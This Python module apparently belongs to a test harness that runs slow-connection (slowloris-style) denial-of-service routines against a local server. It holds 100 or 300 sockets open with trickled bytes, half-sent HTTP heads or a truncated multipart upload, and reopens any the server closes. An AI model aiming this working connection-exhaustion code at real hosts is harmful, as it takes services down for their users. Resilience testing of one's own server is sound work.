"""Connections that hold the server's places: byte by byte, or without a word."""

from __future__ import annotations

import socket
import time
from collections import Counter

from attacks.target import Target, head

_SLOW, _SILENT = 100, 300  # connections
_HEADS = (
    b"",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ",
    head(100_000) + b'--b\r\nContent-Disposition: form-data; name="image"; filename="x"\r\n\r\n',
)


def slow(target: Target, end: float) -> Counter[str]:
    """Hold 100 connections: a byte now and then of nothing, half a head, or a form's file."""
    return _hold(target, end, _SLOW, b"x")


def silent(target: Target, end: float) -> Counter[str]:
    """Hold 300 connections without a word after half a head, or at all."""
    return _hold(target, end, _SILENT, b"")


def _hold(target: Target, end: float, count: int, more: bytes) -> Counter[str]:
    """Hold connections; open a new one for each that the server closes.

    `more` is sent on each, again and again. The outcome "closed" is the server's, "left" of those
    that were held to the end.
    """
    held: dict[int, socket.socket] = {}
    counts: Counter[str] = Counter()
    while time.monotonic() < end:
        for number in range(count):
            try:
                if number not in held:
                    held[number] = _open(target, _HEADS[number % len(_HEADS)])
                held[number].send(more)
                received = held[number].recv(4000)
                counts["408" if received.startswith(b"HTTP/1.1 408") else "closed"] += 1
            except BlockingIOError:  # nothing came: it is still open
                continue
            except OSError:
                counts["closed"] += 1
            if number in held:
                held.pop(number).close()
        time.sleep(0.5)
    for own in held.values():
        own.close()
    counts["left"] += len(held)
    return counts


def _open(target: Target, begin: bytes) -> socket.socket:
    own = socket.create_connection(("127.0.0.1", target.port), timeout=5)
    own.sendall(begin)
    own.setblocking(False)
    return own
